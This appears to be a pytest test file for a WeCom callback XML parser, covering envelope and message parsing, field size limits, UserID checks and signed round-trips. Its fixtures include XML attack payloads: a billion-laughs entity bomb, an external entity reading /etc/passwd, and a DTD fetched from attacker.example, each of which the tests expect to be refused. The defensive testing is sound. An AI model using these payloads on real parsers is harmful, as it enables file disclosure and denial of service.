import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.inbound.callback.callback_errors import (
    CallbackRejected,
    CallbackTooLarge,
    MalformedCallback,
)
from adapters.inbound.callback.wecom_crypto import WeComCrypto
from adapters.inbound.wecom_app.wecom_xml import (
    MAX_ENVELOPE_BYTES,
    MAX_FIELD_BYTES,
    Envelope,
    parse_envelope,
    parse_message,
)
from domain.messages import PICTURE, Attachment, InboundMessage
from wecom_emulator.callbacks import (
    event_xml,
    render_xml,
    signed_callback,
    text_message_xml,
)

CORP_ID = "wx5823bf96d3bd56c7"
AGENT_ID = 1000002

# The decrypted message of WeCom's public sample (developer.work.weixin.qq.com/document/path/90968).
SAMPLE_MESSAGE = (
    b"<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>\n"
    b"<FromUserName><![CDATA[mycreate]]></FromUserName>\n"
    b"<CreateTime>1409659813</CreateTime>\n"
    b"<MsgType><![CDATA[text]]></MsgType>\n"
    b"<Content><![CDATA[hello]]></Content>\n"
    b"<MsgId>4561255354251345929</MsgId>\n"
    b"<AgentID>218</AgentID>\n"
    b"</xml>"
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><Encrypt>&lol3;</Encrypt></xml>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xml><Encrypt>&secret;</Encrypt></xml>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><Encrypt>abc</Encrypt></xml>"""
HARMLESS_DTD = b"<!DOCTYPE xml><xml><Encrypt>abc</Encrypt></xml>"


def message(**fields: str | int | None) -> bytes:
    base: dict[str, str | int | None] = {
        "ToUserName": CORP_ID,
        "FromUserName": "zhangsan",
        "CreateTime": 1700000000,
        "MsgType": "text",
        "Content": "hi",
        "MsgId": "1234567890123456",
        "AgentID": AGENT_ID,
    }
    merged = {**base, **fields}
    return render_xml({tag: value for tag, value in merged.items() if value is not None}).encode()


def without(tag: str) -> bytes:
    return message(**{tag: None})


# --- envelope -----------------------------------------------------------------------------------


def test_envelope_fields_are_read():
    body = (
        b"<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>"
        b"<AgentID><![CDATA[218]]></AgentID>"
        b"<Encrypt><![CDATA[RypEvHKD8QQ+/==]]></Encrypt></xml>"
    )
    assert parse_envelope(body) == Envelope(
        encrypt="RypEvHKD8QQ+/==", to_user="wx5823bf96d3bd56c7", agent_id="218"
    )


def test_envelope_with_only_encrypt_is_enough():
    assert parse_envelope(b"<xml><Encrypt>abc</Encrypt></xml>") == Envelope("abc", "", "")


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml",
        b"<xml><Encrypt>abc</Encrypt>",
        b"<xml></xml>",
        b"<xml><Encrypt></Encrypt></xml>",
        b"<xml><encrypt>abc</encrypt></xml>",
        b"<html><Encrypt>abc</Encrypt></html>",
        b'{"encrypt": "abc"}',
        b"<xml><Encrypt>\xff\xfe</Encrypt></xml>",
        "<xml><Encrypt>abc</Encrypt><ToUserName>中文</ToUserName></xml>".encode("gbk"),
    ],
)
def test_malformed_envelope_is_a_400(body):
    with pytest.raises(MalformedCallback) as rejected:
        parse_envelope(body)
    assert (rejected.value.status, rejected.value.code) == (400, -40002)


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, HARMLESS_DTD])
def test_any_doctype_is_refused(body):
    with pytest.raises(MalformedCallback):
        parse_envelope(body)


def test_internal_entity_without_doctype_is_refused():
    with pytest.raises(MalformedCallback):
        parse_envelope(b"<xml><Encrypt>&undefined;</Encrypt></xml>")


def test_declared_encoding_cannot_turn_utf8_into_something_else():
    body = '<?xml version="1.0" encoding="ISO-8859-1"?><xml><Encrypt>é</Encrypt></xml>'.encode()
    assert parse_envelope(body).encrypt == "é"


def test_oversized_body_is_a_413():
    body = b"<xml><Encrypt>" + b"A" * MAX_ENVELOPE_BYTES + b"</Encrypt></xml>"
    with pytest.raises(CallbackTooLarge) as rejected:
        parse_envelope(body)
    assert rejected.value.status == 413


@given(st.binary(max_size=200))
def test_arbitrary_bytes_never_escape_as_another_error(body):
    with contextlib.suppress(CallbackRejected):
        parse_envelope(body)


# --- message ------------------------------------------------------------------------------------


def test_official_sample_message_is_parsed():
    assert parse_message(SAMPLE_MESSAGE) == InboundMessage(
        msg_type="text",
        from_user="mycreate",
        create_time=1409659813,
        agent_id=218,
        msg_id="4561255354251345929",
        content="hello",
    )


def test_text_message_keeps_content_verbatim():
    content = "  line one\nline two <b>&amp; ]]> 你好 👋  "
    parsed = parse_message(
        text_message_xml(CORP_ID, "zhangsan", content, msg_id=7, agent_id=AGENT_ID).encode()
    )
    assert parsed.content == content
    assert parsed.msg_id == "7"


def test_msg_id_beyond_signed_64_bits_is_kept_exactly():
    assert parse_message(message(MsgId="18446744073709551615")).msg_id == "18446744073709551615"


def test_chat_id_makes_a_group_message():
    xml = text_message_xml(
        CORP_ID, "zhangsan", "hi", msg_id=1, agent_id=AGENT_ID, chat_id="wrkSFfCgAA"
    )
    parsed = parse_message(xml.encode())
    assert parsed.chat_id == "wrkSFfCgAA"
    assert parsed.is_group


def test_message_without_chat_id_is_private():
    assert not parse_message(message()).is_group


def test_event_without_msg_id_is_accepted():
    parsed = parse_message(
        event_xml(CORP_ID, "zhangsan", "enter_agent", AGENT_ID, 1700000000).encode()
    )
    assert (parsed.msg_type, parsed.event, parsed.msg_id) == ("event", "enter_agent", "")
    assert parsed.dedup_key == "app:default/event:zhangsan:1700000000"


def test_unknown_msg_type_passes_through():
    parsed = parse_message(message(MsgType="miniprogram_notice", Content="ignored"))
    assert parsed.msg_type == "miniprogram_notice"
    assert parsed.content == ""


def test_a_picture_is_an_attachment_fetched_by_its_media_id():
    picture = parse_message(message(MsgType="image", Content=None, MediaId="MEDIA1",
                                    PicUrl="https://wx.qlogo.cn/x"))
    assert picture.attachments == (Attachment(PICTURE, "MEDIA1"),)
    assert parse_message(message(MsgType="voice", MediaId="V1")).attachments == ()


def test_content_is_only_taken_from_text_messages():
    assert parse_message(message(MsgType="image", Content="caption?")).content == ""


def test_event_field_is_only_taken_from_events():
    assert parse_message(message(Event="subscribe")).event == ""


@pytest.mark.parametrize("tag", ["FromUserName", "CreateTime", "MsgType", "MsgId"])
def test_missing_required_field_is_rejected(tag):
    with pytest.raises(MalformedCallback) as rejected:
        parse_message(without(tag))
    assert tag in rejected.value.reason


@pytest.mark.parametrize("tag", ["FromUserName", "MsgType", "MsgId"])
def test_empty_required_field_is_rejected(tag):
    with pytest.raises(MalformedCallback):
        parse_message(message(**{tag: ""}))


@pytest.mark.parametrize("tag", ["MsgId", "CreateTime", "AgentID"])
@pytest.mark.parametrize("value", ["12a", "-1", "1.5", " 123", "0x10", "١٢٣", "1" * 21])
def test_non_numeric_number_is_rejected(tag, value):
    with pytest.raises(MalformedCallback) as rejected:
        parse_message(message(**{tag: value}))
    assert tag in rejected.value.reason


def test_create_time_beyond_64_bits_is_rejected():
    with pytest.raises(MalformedCallback):
        parse_message(message(CreateTime=2**63))


@pytest.mark.parametrize("tag", ["Content", "FromUserName", "ChatId"])
def test_field_over_64_kib_is_rejected(tag):
    with pytest.raises(MalformedCallback) as rejected:
        parse_message(message(**{tag: "x" * (MAX_FIELD_BYTES + 1)}))
    assert tag in rejected.value.reason


def test_field_of_exactly_64_kib_is_accepted():
    assert len(parse_message(message(Content="x" * MAX_FIELD_BYTES)).content) == MAX_FIELD_BYTES


def test_field_limit_counts_bytes_not_characters():
    with pytest.raises(MalformedCallback):
        parse_message(message(Content="中" * (MAX_FIELD_BYTES // 3 + 1)))


@pytest.mark.parametrize("char", ["中", "👋"])
def test_field_limit_is_exact_for_multibyte_characters(char):
    fits = char * (MAX_FIELD_BYTES // len(char.encode()))
    assert parse_message(message(Content=fits)).content == fits
    with pytest.raises(MalformedCallback, match="Content exceeds"):
        parse_message(message(Content=fits + char))


def test_agent_id_must_be_the_expected_one():
    with pytest.raises(MalformedCallback):
        parse_message(message(AgentID=999), expected_agent_id=AGENT_ID)
    assert parse_message(message(), expected_agent_id=AGENT_ID).agent_id == AGENT_ID


def test_missing_agent_id_is_attributed_to_the_expected_agent():
    assert parse_message(without("AgentID"), expected_agent_id=AGENT_ID).agent_id == AGENT_ID
    assert parse_message(without("AgentID")).agent_id == 0


@pytest.mark.parametrize(
    "plaintext",
    [
        BILLION_LAUGHS.replace(b"Encrypt", b"Content"),
        EXTERNAL_ENTITY.replace(b"Encrypt", b"Content"),
        b"<xml><FromUserName>a</FromUserName>",
        "<xml><Content>中文</Content></xml>".encode("utf-16"),
        b"\xc3\x28",
    ],
)
def test_unsafe_or_broken_plaintext_is_rejected(plaintext):
    with pytest.raises(MalformedCallback):
        parse_message(plaintext)


@pytest.mark.parametrize("sender", ["@all", "zhangsan|lisi", "_x", "a b", "张三", "a" * 65])
def test_a_sender_that_is_not_exactly_one_userid_is_refused(sender):
    xml = text_message_xml(CORP_ID, sender, "hi", msg_id=1, agent_id=AGENT_ID)
    with pytest.raises(MalformedCallback, match="is not a WeCom UserID"):
        parse_message(xml.encode(), expected_agent_id=AGENT_ID)


@pytest.mark.parametrize(
    "sender", ["zhangsan", "Zhang.San@corp", "wx5823bf96d3bd56c7", "sys", "a" * 64]
)
def test_every_shape_of_userid_wecom_allows_is_taken(sender):
    xml = text_message_xml(CORP_ID, sender, "hi", msg_id=1, agent_id=AGENT_ID)
    assert parse_message(xml.encode(), expected_agent_id=AGENT_ID).from_user == sender


_XML_TEXT = st.text(
    alphabet=st.characters(exclude_categories=("Cs", "Cc", "Cn"), include_characters="\n\t"),
    max_size=200,
)


_USER_IDS = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_@.-]{0,63}", fullmatch=True)


@given(content=_XML_TEXT, from_user=_USER_IDS, chat_id=_XML_TEXT)
def test_signed_callback_helper_round_trips_through_the_real_parsers(content, from_user, chat_id):
    crypto = WeComCrypto("token", "a" * 43, CORP_ID)
    xml = text_message_xml(
        CORP_ID,
        from_user,
        content,
        msg_id=42,
        agent_id=AGENT_ID,
        create_time=1700000000,
        chat_id=chat_id,
    )
    params, body = signed_callback(crypto, xml, timestamp=1700000001, nonce="n0nce")

    envelope = parse_envelope(body)
    plaintext = crypto.open_message(
        params["msg_signature"], "1700000001", "n0nce", envelope.encrypt
    )

    assert (envelope.to_user, envelope.agent_id) == (CORP_ID, str(AGENT_ID))
    assert parse_message(plaintext, expected_agent_id=AGENT_ID) == InboundMessage(
        msg_type="text",
        from_user=from_user,
        create_time=1700000000,
        agent_id=AGENT_ID,
        msg_id="42",
        content=content,
        chat_id=chat_id,
    )
